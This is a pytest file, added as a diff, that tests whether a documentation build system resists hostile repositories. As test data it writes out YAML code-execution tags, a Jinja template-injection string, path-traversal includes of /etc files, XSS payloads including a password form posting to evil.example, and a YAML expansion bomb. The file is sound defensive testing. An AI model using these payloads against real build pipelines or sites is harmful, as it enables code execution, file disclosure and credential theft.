@@ -1,0 +1,427 @@
+"""Repositories that attack the docs build: what they try, and that nothing of it is there (backstage.md 3.2, 3.3).
+
+Every attack leaves a marker, prints a secret, or shows a file from outside if it works with plain MkDocs.
+"""
+
+import os
+import re
+import time
+from pathlib import Path
+
+import pytest
+from docs_kit import build, checkout_of, entity_of, manual_of, page_html, write_tree
+
+from callboard.config.model import DocsConfig
+from callboard.docs import confine
+
+pytestmark = pytest.mark.skipif(not confine.BASE <= confine.available(), reason="this machine cannot confine the worker")
+
+SECRET = "s3cret-token-of-the-build"
+OUTSIDE = "content-from-outside"
+ACTIVE = re.compile(
+    r"<(?:script|style|iframe|object|embed|base|meta|form|link|template|textarea|foreignobject)\b"
+    r"|<[^>]*\s(?:on[a-z]+|style|srcdoc|formaction)=|(?:href|src)=\"\s*(?:javascript|vbscript|file):|href=\"data:",
+    re.IGNORECASE,
+)
+
+
+@pytest.fixture
+def attacked(tmp_path, monkeypatch):
+    """Build a repository of these files; everything that the site would hold, as one text, and what was reported."""
+    monkeypatch.setenv("SECRET_TOKEN", SECRET)
+    write_tree(tmp_path, {"outside.txt": OUTSIDE, "outside/docs/index.md": f"# {OUTSIDE}\n"})
+    marker = tmp_path / "marker"
+
+    def build_it(files, *, config=None):
+        files = {name: content.replace("MARKER", str(marker)) if isinstance(content, str) else content for name, content in files.items()}
+        files.setdefault("docs/index.md", "# Fine\n")
+        root = write_tree(tmp_path / "repo", {n: c for n, c in files.items() if not isinstance(c, Path)})
+        for name, target in files.items():
+            if isinstance(target, Path):
+                (root / name).symlink_to(target)
+        good = write_tree(tmp_path / "good", {"docs/index.md": "# Unharmed\n"})
+        manuals, report = build(
+            [checkout_of(root), checkout_of(good, "acme/good")],
+            [entity_of(), entity_of("good", repo="acme/good")],
+            tmp_path / "state",
+            config=config,
+        )
+        published = "\n".join(
+            part
+            for manual in manuals.by_entity.values()
+            for part in (
+                manual.title,
+                repr(manual.nav),
+                repr(manual.redirects),
+                *(f"{page.path} {page.title} {page.html} {page.headings} {page.description}" for page in manual.pages),
+                *(f"{asset.path} {asset.file.read_bytes().decode(errors='replace')}" for asset in manual.assets),
+            )
+        )
+        assert "Unharmed" in published
+        assert not marker.exists()
+        assert SECRET not in published and SECRET not in "\n".join(map(str, report))
+        assert OUTSIDE not in published
+        assert not ACTIVE.search(published)
+        return published, [problem.code for problem in report], manuals
+
+    return build_it
+
+
+def test_a_tag_that_reads_the_environment_counts_as_not_set(attacked):
+    published, codes, _ = attacked({"mkdocs.yml": "site_name: !ENV SECRET_TOKEN\nsite_description: !ENV [SECRET_TOKEN, x]\n"})
+
+    assert "docs-config-ignored" in codes and "SECRET_TOKEN" not in published
+
+
+def test_a_tag_that_calls_a_function_calls_nothing(attacked):
+    attacked(
+        {
+            "mkdocs.yml": "site_name: !!python/object/apply:os.system ['touch MARKER']\n"
+            "extra: !!python/object/apply:os.system ['touch MARKER']\n"
+            "plugins:\n  - techdocs-core: !!python/object/apply:os.system ['touch MARKER']\n"
+        }
+    )
+
+
+def test_a_tag_that_names_a_function_names_none_but_the_known(attacked):
+    _, codes, _ = attacked(
+        {
+            "mkdocs.yml": "site_name: x\nmarkdown_extensions:\n  - toc:\n      slugify: !!python/name:os.system\n"
+            "  - pymdownx.emoji:\n      emoji_generator: !!python/name:subprocess.check_output\n"
+            "  - toc:\n      slugify: !!python/object/apply:os.system ['touch MARKER']\n",
+            "docs/index.md": "# touch MARKER :smile:\n",
+        }
+    )
+
+    assert codes.count("docs-plugin-ignored") == 3
+
+
+def test_hooks_are_not_run(attacked):
+    _, codes, _ = attacked({"mkdocs.yml": "site_name: x\nhooks: [h.py]\n", "h.py": "open('MARKER', 'w')\n"})
+
+    assert "docs-config-ignored" in codes
+
+
+def test_inherited_settings_are_not_read(attacked):
+    _, codes, _ = attacked(
+        {"mkdocs.yml": "INHERIT: ./base.txt\nsite_name: x\n", "base.txt": "hooks: [h.py]\n", "h.py": "open('MARKER', 'w')\n"}
+    )
+
+    assert "docs-config-ignored" in codes
+
+
+def test_a_theme_of_the_repository_is_not_rendered(attacked):
+    shell = "{{ config.__class__.__init__.__globals__['os'].popen('touch MARKER').read() }}"
+    _, codes, _ = attacked({"mkdocs.yml": "site_name: x\ntheme:\n  name: material\n  custom_dir: o\n", "o/main.html": shell})
+
+    assert "docs-config-ignored" in codes
+
+
+@pytest.mark.parametrize("form", ["['evil:Extension']", "{'evil:Extension': {}}", "[{'evil:Extension': {}}]", "[evil]", "{evil: {}}"])
+def test_a_markdown_extension_of_the_repository_is_not_imported(attacked, form):
+    code = "open('MARKER', 'w')\nclass Extension: pass\ndef makeExtension(**k): pass\n"
+    _, codes, _ = attacked({"mkdocs.yml": f"site_name: x\nmarkdown_extensions: {form}\n", "evil.py": code})
+
+    assert "docs-plugin-ignored" in codes
+
+
+@pytest.mark.parametrize("form", ["[exec, macros, gen-files, mkdocstrings]", "{exec: {}, macros: {module_name: main}}", "[{group: {enabled: true, plugins: [exec]}}]"])
+def test_a_plugin_of_the_repository_is_not_loaded(attacked, form):
+    _, codes, _ = attacked({"mkdocs.yml": f"site_name: x\nplugins: {form}\n", "main.py": "open('MARKER', 'w')\n"})
+
+    assert "docs-plugin-ignored" in codes
+
+
+@pytest.mark.parametrize("form", ["- pymdownx.snippets: {base_path: ['/etc', '..'], restrict_base_path: false}", "pymdownx.snippets: {base_path: '..', restrict_base_path: false, url_download: true}"])
+def test_snippets_are_taken_from_inside_the_repository_only(attacked, form):
+    text = '# T\n\n--8<-- "../outside.txt"\n\n--8<-- "/etc/hostname"\n\n--8<-- "https://example.com/"\n\n--8<-- "inside.txt"\n'
+    published, codes, _ = attacked(
+        {"mkdocs.yml": f"site_name: x\nmarkdown_extensions:\n  {form}\n", "docs/index.md": text, "inside.txt": "taken-in\n"}
+    )
+
+    assert "taken-in" in published
+    assert Path("/etc/hostname").read_text().strip() not in re.sub(r"href=\S+", "", published)
+    assert "docs-plugin-ignored" in codes
+
+
+def test_snippets_relative_to_the_configuration_do_not_lead_out(attacked):
+    attacked(
+        {
+            "mkdocs.yml": "site_name: x\nmarkdown_extensions:\n  - pymdownx.snippets:\n      base_path: !relative $config_dir/..\n",
+            "docs/index.md": '# T\n\n--8<-- "outside.txt"\n',
+        }
+    )
+
+
+def test_links_out_of_the_repository_are_not_followed(attacked, tmp_path):
+    published, _, _ = attacked(
+        {
+            "docs/index.md": '# T\n\n[a](leak.txt) ![b](leak.png) [c](leak.md)\n\n--8<-- "docs/leak.txt"\n',
+            "docs/leak.txt": tmp_path / "outside.txt",
+            "docs/leak.png": tmp_path / "outside.txt",
+            "docs/leak.md": tmp_path / "outside" / "docs" / "index.md",
+            "docs/folder": tmp_path / "outside",
+            "docs/chain.txt": Path("leak.txt"),
+            "docs/dangling.txt": Path("nowhere"),
+        }
+    )
+
+    assert "leak/" not in published
+
+
+@pytest.mark.parametrize("docs", ["../outside/docs", "/etc", "docs/../../outside/docs", "..", "linked"])
+def test_a_docs_dir_outside_the_repository_is_refused(attacked, docs, tmp_path):
+    _, codes, manuals = attacked({"mkdocs.yml": f"site_name: x\ndocs_dir: {docs}\n", "linked": tmp_path / "outside" / "docs"})
+
+    assert {"docs-config", "docs-missing"} & set(codes)
+    assert len(manuals.by_entity) == 1
+
+
+def test_an_included_configuration_passes_the_same_gate(attacked):
+    _, codes, _ = attacked(
+        {
+            "mkdocs.yml": "site_name: x\nnav:\n  - Home: index.md\n  - In: '!include inner/mkdocs.yml'\n",
+            "inner/mkdocs.yml": "site_name: inner\nhooks: [h.py]\nextra: !!python/object/apply:os.system ['touch MARKER']\nmarkdown_extensions: ['evil:E']\n",
+            "inner/h.py": "open('MARKER', 'w')\n",
+            "inner/docs/index.md": "# Inner\n",
+        }
+    )
+
+    assert "docs-config-ignored" in codes and "docs-plugin-ignored" in codes
+
+
+@pytest.mark.parametrize("path", ["../outside/mkdocs.yml", "/etc/mkdocs.yml", "inner/mkdocs.yml"])
+def test_what_is_included_does_not_lead_out_of_the_repository(attacked, path, tmp_path):
+    write_tree(tmp_path, {"outside/mkdocs.yml": "site_name: out\n"})
+    _, codes, _ = attacked(
+        {
+            "mkdocs.yml": f"site_name: x\nnav:\n  - Home: index.md\n  - In: '!include {path}'\n",
+            "inner/mkdocs.yml": "site_name: inner\ndocs_dir: ../../outside/docs\n",
+        }
+    )
+
+    assert "docs-config" in codes
+
+
+@pytest.mark.parametrize("name", ["../../../etc", "..", "/abs", "a/../../../b", "."])
+def test_an_included_site_name_is_no_path_that_leads_out(attacked, name):
+    attacked(
+        {
+            "mkdocs.yml": "site_name: x\nnav:\n  - Home: index.md\n  - In: '!include inner/mkdocs.yml'\n",
+            "inner/mkdocs.yml": f"site_name: {name}\n",
+            "inner/docs/index.md": "# Inner\n",
+        }
+    )
+
+
+RAW = """# T {: onclick="alert(1)" style="position:fixed" }
+
+<script>alert(1)</script>
+
+<svg><script>alert(1)</script><style>*{display:none}</style></svg>
+
+<iframe srcdoc="<script>alert(1)</script>"></iframe> <object data="e.svg"></object> <base href="https://evil.example/">
+
+<form action="https://evil.example/"><input name="password"><button formaction="javascript:alert(1)">x</button></form>
+
+<meta http-equiv="refresh" content="0;url=https://evil.example/">
+
+[a](javascript:alert(1)) [b](data:text/html,<script>alert(1)</script>) [c](JaVaScRiPt:alert(1)) <a href="java&#10;script:alert(1)">d</a>
+
+[e](vbscript:x) [f](file:///etc/passwd) ![g](javascript:alert(1)) ![h](data:image/svg+xml;base64,PHN2Zz4=)
+
+text{: onmouseover=alert(1) style="background:url(https://evil.example)" }
+
+<div style="position:fixed;inset:0" class="cb-dialog" id="cb-search">over the page</div>
+"""
+
+
+def test_html_that_runs_or_reaches_out_is_taken_out(attacked):
+    published, codes, manuals = attacked({"docs/index.md": RAW})
+
+    assert 'class="cb-dialog"' not in published and 'id="cb-' not in published
+    assert "docs-sanitized" in codes and "rejected-link" in codes
+    assert not re.search(r'(?:src|href)="(?!cb:|#|https://evil|$)', page_html(next(iter(manuals.by_entity.values()))))
+
+
+def test_titles_and_names_are_text(tmp_path):
+    manual, _ = manual_of(
+        tmp_path,
+        {
+            "mkdocs.yml": "site_name: '<script>alert(1)</script>'\nnav:\n  - '<img src=x onerror=alert(1)>': index.md\n",
+            "docs/index.md": "---\ndescription: <img src=x onerror=alert(1)>\n---\n# T `<script>`\n",
+        },
+    )
+
+    (page,) = manual.pages
+    assert (manual.title, page.title) == ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>")
+    assert page.headings[0].text == "T <script>" and "<script" not in page.html
+
+
+def test_nav_leads_to_no_code(attacked):
+    published, codes, _ = attacked(
+        {"mkdocs.yml": "site_name: x\nnav:\n  - Home: index.md\n  - Bad: 'javascript:alert(1)'\n  - Data: 'data:text/html,x'\n  - Good: https://example.com/\n"}
+    )
+
+    assert "javascript" not in published and "data:text" not in published and "https://example.com/" in published
+    assert codes.count("rejected-link") == 2
+
+
+def test_pages_of_html_and_code_are_not_published(attacked):
+    files = {name: "<script>alert(1)</script>" for name in ("docs/evil.html", "docs/a.htm", "docs/a.xhtml", "docs/sw.js", "docs/x.svgz", "docs/a.xml", "docs/a.css")}
+    links = " ".join(f"[x]({Path(name).name}) ![y]({Path(name).name})" for name in files)
+    _, _, manuals = attacked({**files, "docs/index.md": f"# T\n\n{links}\n"})
+
+    assert [asset.path for manual in manuals.by_entity.values() for asset in manual.assets] == []
+
+
+def test_an_svg_of_the_repository_is_cleaned_before_it_is_published(attacked):
+    svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><rect width="1"/></svg>'
+    published, _, _ = attacked({"docs/e.svg": svg, "docs/index.md": "# T\n\n![x](e.svg)\n"})
+
+    assert 'rect width="1"' in published and "alert" not in published
+
+
+def test_styles_and_scripts_of_the_settings_are_not_loaded(attacked):
+    published, codes, _ = attacked({"mkdocs.yml": "site_name: x\nextra_css: ['https://evil.example/x.css']\nextra_javascript: ['https://evil.example/x.js']\n"})
+
+    assert "evil" not in published and codes.count("docs-config-ignored") == 2
+
+
+def test_redirects_stay_in_the_manual(attacked):
+    published, codes, manuals = attacked(
+        {
+            "mkdocs.yml": "site_name: x\nplugins:\n  - techdocs-core\n  - redirects:\n      redirect_maps:\n        old.md: https://evil.example/\n"
+            "        older.md: //evil.example/\n        moved.md: index.md#t\n        ../../out.md: index.md\n"
+        }
+    )
+
+    assert "evil" not in published and codes.count("docs-config-ignored") == 2
+    assert next(m for m in manuals.by_entity.values() if m.repo == "acme/shop").redirects == (("moved/", "#t"),)
+
+
+def test_diagrams_start_no_program_and_read_no_file(attacked, tmp_path, monkeypatch):
+    for name in ("plantuml", "dot", "neato"):
+        program = tmp_path / "bin" / name
+        write_tree(tmp_path, {f"bin/{name}": f"#!/bin/sh\ntouch {tmp_path / 'marker'}\n"})
+        program.chmod(0o755)
+    monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}{os.pathsep}{os.environ['PATH']}")
+    published, _, _ = attacked(
+        {
+            "mkdocs.yml": "site_name: x\nmarkdown_extensions:\n  - plantuml_markdown:\n      plantuml_cmd: touch MARKER\n      server: http://127.0.0.1:9/\n      base_dir: /etc\n",
+            "docs/index.md": "# T\n\n```plantuml source=\"hostname\"\n!include /etc/hostname\n```\n\n::uml::\nA -> B\n::end-uml::\n\n"
+            "{% dot a.svg\ndigraph { a -> b }\n%}\n\n```graphviz dot b.png\ndigraph { c -> d }\n```\n",
+        }
+    )
+
+    assert "!include /etc/hostname" in published and "A -&gt; B" in published and "a -&gt; b" in published and "c -&gt; d" in published
+
+
+def test_a_configuration_that_multiplies_is_one_problem(attacked):
+    lines = ["a: &a [x, x, x, x, x, x, x, x, x, x]"] + [f"{n}: &{n} [{', '.join([f'*{p}'] * 10)}]" for p, n in zip("abcdefgh", "bcdefghi", strict=True)]
+    _, codes, _ = attacked({"mkdocs.yml": "site_name: x\n" + "\n".join(lines) + "\nextra: *i\n"})
+
+    assert "docs-config" in codes
+
+
+def test_front_matter_that_multiplies_or_calls_is_harmless(attacked):
+    lines = ["a: &a [x, x, x, x, x, x, x, x, x, x]"] + [f"{n}: &{n} [{', '.join([f'*{p}'] * 10)}]" for p, n in zip("abcdefgh", "bcdefghi", strict=True)]
+    attacked(
+        {
+            "docs/bomb.md": "---\n" + "\n".join(lines) + "\ndescription: *i\n---\n# Bomb\n",
+            "docs/call.md": "---\ntitle: !!python/object/apply:os.system ['touch MARKER']\n---\n# Call\n",
+        }
+    )
+
+
+def test_hidden_files_are_not_published_by_a_negation(attacked):
+    published, _, _ = attacked(
+        {
+            "mkdocs.yml": "site_name: x\nexclude_docs: |\n  !.env\n  !.secret.md\n",
+            "docs/.env": f"TOKEN={OUTSIDE}",
+            "docs/.secret.md": f"# {OUTSIDE}\n",
+            "docs/.git-credentials.txt": OUTSIDE,
+            "docs/index.md": "# T\n\n[a](.env) [b](.secret.md) ![c](.git-credentials.txt)\n",
+        }
+    )
+
+    assert "TOKEN" not in published
+
+
+def test_both_names_of_the_configuration_mean_one_choice(attacked):
+    published, codes, _ = attacked({"mkdocs.yaml": "site_name: from-yaml\n", "mkdocs.yml": "site_name: from-yml\nhooks: [h.py]\n"})
+
+    assert "from-yaml" in published and "from-yml" not in published and codes == ["docs-config-ignored"]
+
+
+def test_links_built_from_settings_run_no_code(attacked):
+    published, _, _ = attacked(
+        {"mkdocs.yml": "site_name: x\nrepo_url: 'javascript:alert(1)'\nedit_uri_template: 'javascript:alert({path})'\nsite_url: 'javascript:alert(1)'\n"}
+    )
+
+    assert "javascript" not in published
+
+
+@pytest.mark.parametrize("name", ["CNAME", "404.html", "sw.js", "robots.txt", ".well-known/security.txt", "index.html", ".nojekyll"])
+def test_files_of_the_site_itself_are_not_overwritten(attacked, name):
+    _, _, manuals = attacked({f"docs/{name}": "evil", "docs/index.md": f"# T\n\n[x]({name})\n"})
+
+    for manual in manuals.by_entity.values():
+        for path in [*(page.path for page in manual.pages), *(asset.path for asset in manual.assets)]:
+            assert not path.startswith(("/", "../")) and ".." not in path.split("/")
+            assert not path.endswith((".html", ".js"))
+
+
+def test_names_that_only_differ_in_case_are_one_problem(attacked):
+    _, codes, manuals = attacked(
+        {"docs/Guide.md": "# A\n", "docs/guide.md": "# B\n", "docs/P.png": b"1", "docs/p.png": b"2", "docs/index.md": "# T\n\n![](P.png) ![](p.png)\n"}
+    )
+
+    paths = [path.casefold() for m in manuals.by_entity.values() if m.repo == "acme/shop" for path in [p.path for p in m.pages] + [a.path for a in m.assets]]
+    assert len(paths) == len(set(paths)) and codes.count("path-conflict") == 2
+
+
+def test_odd_names_do_not_reach_the_site(attacked):
+    _, _, manuals = attacked({"docs/a\\b.md": "# A\n", "docs/\u202egnp.md": "# B\n", "docs/line\nbreak.md": "# C\n", "docs/per%2fcent.md": "# D\n"})
+
+    paths = {page.path for manual in manuals.by_entity.values() for page in manual.pages}
+    assert paths == {"", "per%2fcent/"}
+
+
+SLOW = DocsConfig(timeout=6, memory=256, max_output=5)
+
+
+def test_a_page_without_end_ends_in_time_and_spares_the_others(attacked):
+    started = time.monotonic()
+    published, codes, _ = attacked({"docs/endless.md": "[" * 60_000 + "a](" * 60_000 + "\n", "docs/other.md": "# Other page\n"}, config=SLOW)
+
+    assert time.monotonic() - started < 25
+    assert "Other page" in published or "docs-failed" in codes
+
+
+def test_deep_nesting_spares_the_others(attacked):
+    published, _, _ = attacked(
+        {"docs/deep.md": "> " * 3000 + "x\n", "docs/lists.md": "".join("  " * n + "- x\n" for n in range(900)), "docs/html.md": "<div>" * 5000 + "\n", "docs/other.md": "# Other page\n"},
+        config=SLOW,
+    )
+
+    assert "Other page" in published
+
+
+def test_a_manual_that_takes_all_memory_spares_the_others(attacked):
+    _, _, manuals = attacked({f"docs/p{n}.md": "*a* " * 400_000 for n in range(3)}, config=DocsConfig(timeout=20, memory=64, max_output=5))
+
+    assert manuals.by_entity
+
+
+def test_a_huge_line_is_one_problem(attacked):
+    _, codes, _ = attacked({"docs/huge.md": "x" * (6 << 20)}, config=SLOW)
+
+    assert "file-too-large" in codes
+
+
+def test_a_page_that_is_not_utf8_is_one_problem(tmp_path):
+    manual, report = manual_of(tmp_path, {"docs/index.md": "# Fine\n", "docs/latin.md": b"caf\xe9\n"})
+
+    assert [page.path for page in manual.pages] == [""]
+    assert [(problem.code, str(problem.location)) for problem in report] == [("file-not-utf8", "acme/shop/docs/latin.md")]
